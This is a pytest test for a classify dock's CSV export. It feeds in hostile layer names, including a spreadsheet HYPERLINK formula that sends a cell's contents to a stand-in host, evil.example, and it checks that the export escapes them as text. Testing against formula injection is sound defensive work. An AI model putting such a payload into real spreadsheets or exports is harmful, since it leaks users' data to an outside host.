"""The classify dock's CSV exports: class names taken from layer names never become formulas."""

import csv

DOCK = "Classify the stage"


def test_hostile_layer_names_are_exported_as_text(open_dock, close_dock, qtbot, viewer, tmp_path):
    hostile = {"interphase": '=HYPERLINK("http://evil.example/?"&A1,"open")',
               "metaphase": "+1+1", "anaphase": "two\nlines"}  # fmt: skip
    for old, new in hostile.items():
        viewer.layers[old].name = new
    dock = open_dock(DOCK)
    dock.class_layers = list(hostile.values())
    dock.set_options(epochs=3, patience=0)
    dock.start()
    qtbot.waitUntil(lambda: not dock.is_running, timeout=120_000)
    dock.image_name = "+1+1"
    dock.predict()
    qtbot.waitUntil(lambda: dock.predictions is not None, timeout=60_000)
    path = tmp_path / "predictions.csv"
    dock.files.export_predictions(path)
    assert dock.results["files"].text() == "Wrote the predictions to predictions.csv."
    with open(path, newline="", encoding="utf-8") as file:
        rows = list(csv.reader(file))
    assert rows[0] == ["image", "predicted_class", "confidence",
                       *(f"p_{name}" for name in hostile.values())]  # fmt: skip
    assert len(rows) == 7  # six images, no junk row from the newline
    escaped = {"'" + hostile["interphase"], "'+1+1", "two\nlines"}
    assert {row[1] for row in rows[1:]} <= escaped
    assert all(0 <= float(value) <= 1 for row in rows[1:] for value in row[2:])
    close_dock(dock)
